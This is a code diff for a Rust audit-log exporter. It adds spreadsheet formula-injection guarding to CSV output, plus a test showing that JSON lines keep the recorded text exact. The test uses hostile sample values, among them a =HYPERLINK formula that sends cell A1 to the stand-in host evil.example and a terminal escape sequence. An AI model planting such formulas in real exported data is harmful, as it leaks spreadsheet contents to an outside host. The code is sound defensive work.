@@ -1,10 +1,15 @@
 //! Audit rows as file text: the CSV and JSON lines that `portcullis audit --format csv|jsonl`
 //! prints and the desktop viewer exports (DESIGN §7). One implementation, so both stay
 //! byte-identical. Columns and keys are [`AuditRow::COLUMNS`], in that order.
+//!
+//! CSV cells go through [`neutralize::csv_cell`]: the text columns (tool, client name, reason, …)
+//! came from agents and servers, and a cell such as `=HYPERLINK(…)` would run as a formula in a
+//! spreadsheet. JSON lines stay exact: JSON escaping already keeps control characters out, and
+//! their readers are programs that want the recorded text.
 
 use serde_json::Value;
 
-use crate::AuditRow;
+use crate::{neutralize, AuditRow};
 
 /// The CSV header line (no newline).
 pub fn csv_header() -> String {
@@ -12,15 +17,17 @@ pub fn csv_header() -> String {
 }
 
 /// One row as a CSV line (no newline): RFC 4180 quoting, NULL as an empty cell, the arguments
-/// as compact JSON.
+/// as compact JSON, text guarded against formulas ([`neutralize::csv_cell`]).
 pub fn csv_row(row: &AuditRow) -> String {
     let value = serde_json::to_value(row).unwrap_or_default();
     AuditRow::COLUMNS
         .iter()
         .map(|c| match value.get(*c) {
             None | Some(Value::Null) => String::new(),
-            Some(Value::String(s)) => csv_cell(s),
-            Some(other) => csv_cell(&other.to_string()),
+            // Numbers are the gateway's own (ids, times, durations): `-1` is not a formula.
+            Some(Value::Number(n)) => n.to_string(),
+            Some(Value::String(s)) => neutralize::csv_cell(s),
+            Some(other) => neutralize::csv_cell(&other.to_string()),
         })
         .collect::<Vec<_>>()
         .join(",")
@@ -42,14 +49,6 @@ pub fn csv(rows: &[AuditRow]) -> String {
 /// One line per row, joined by newlines, with no trailing newline.
 pub fn jsonl(rows: &[AuditRow]) -> String {
     rows.iter().map(jsonl_row).collect::<Vec<_>>().join("\n")
-}
-
-fn csv_cell(text: &str) -> String {
-    if text.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", text.replace('"', "\"\""))
-    } else {
-        text.to_owned()
-    }
 }
 
 /// JSON allows raw U+2028/U+2029 inside strings, but line readers that honour Unicode line
@@ -97,8 +96,25 @@ mod tests {
         );
         assert!(line.contains(r#""{""path"":"#), "arguments are quoted JSON: {line}");
         assert!(line.ends_with("d,approved,user,default,,1200,,,1"), "{line}");
-        assert_eq!(csv_cell("plain"), "plain");
         assert_eq!(csv(&[]), AuditRow::COLUMNS.join(","), "no rows: the header alone");
+    }
+
+    #[test]
+    fn csv_guards_hostile_text_and_jsonl_keeps_it_exact() {
+        let mut hostile = row();
+        hostile.tool = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")".into();
+        hostile.client_name = Some("@cmd\u{1b}]0;pwned\u{7}".into());
+        hostile.reason = Some("-2+3\u{202e}".into());
+        let line = csv_row(&hostile);
+        assert!(
+            line.contains(r#",fs,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")","#),
+            "{line}"
+        );
+        assert!(line.contains(r",'@cmd\u{1b}]0;pwned\u{7},"), "{line}");
+        assert!(line.contains(r",'-2+3\u{202e},"), "{line}");
+        assert!(!line.contains('\u{1b}') && !line.contains('\u{202e}'), "{line}");
+        let back: AuditRow = serde_json::from_str(&jsonl_row(&hostile)).unwrap();
+        assert_eq!(back, hostile, "JSON lines carry the exact text");
     }
 
     #[test]
